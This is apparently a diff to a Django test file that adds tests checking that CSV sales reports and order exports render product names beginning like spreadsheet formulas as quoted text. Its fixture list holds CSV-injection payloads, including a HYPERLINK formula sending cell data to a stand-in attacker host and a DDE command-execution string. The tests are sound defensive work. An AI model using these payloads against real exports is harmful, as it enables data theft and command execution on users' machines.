@@ -144,3 +144,33 @@ def _client_for(user):
     client = APIClient()
     client.credentials(HTTP_AUTHORIZATION=f"Token {TokenFactory(user=user).key}")
     return client
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+def test_product_names_that_start_like_a_formula_are_text_in_the_sales_report(staff, staff_client):
+    products = [ProductFactory(name=name) for name in FORMULA_NAMES]
+    for product in products:
+        OrderItemFactory(order=OrderFactory(), product=product, quantity=2, unit_price=Decimal("5.00"))
+    report = services.sales_report_request(user=staff, start=TODAY, end=TODAY)
+    services.report_generate(report_id=report.pk)
+
+    download = staff_client.get(f"{REPORTS_URL}{report.pk}/download/")
+
+    rows = _csv(download)[1:]
+    assert [row[2] for row in rows] == [f"'{name}" for name in FORMULA_NAMES]
+    assert [row[3:] for row in rows] == [["1", "2", "10.00"]] * len(FORMULA_NAMES)
+
+
+def test_product_names_that_start_like_a_formula_are_text_in_the_orders_export(user, user_client):
+    order = OrderFactory(user=user, total=Decimal("60.00"))
+    for name in FORMULA_NAMES:
+        OrderItemFactory(order=order, product=ProductFactory(name=name), unit_price=Decimal("10.00"))
+    export_id = user_client.post(EXPORTS_URL).json()["id"]
+    services.report_generate(report_id=export_id)
+
+    rows = _csv(user_client.get(f"{EXPORTS_URL}{export_id}/download/"))[1:]
+
+    assert [row[5] for row in rows] == [f"'{name}" for name in FORMULA_NAMES]
+    assert {(row[3], row[6], row[7]) for row in rows} == {("60.00", "1", "10.00")}
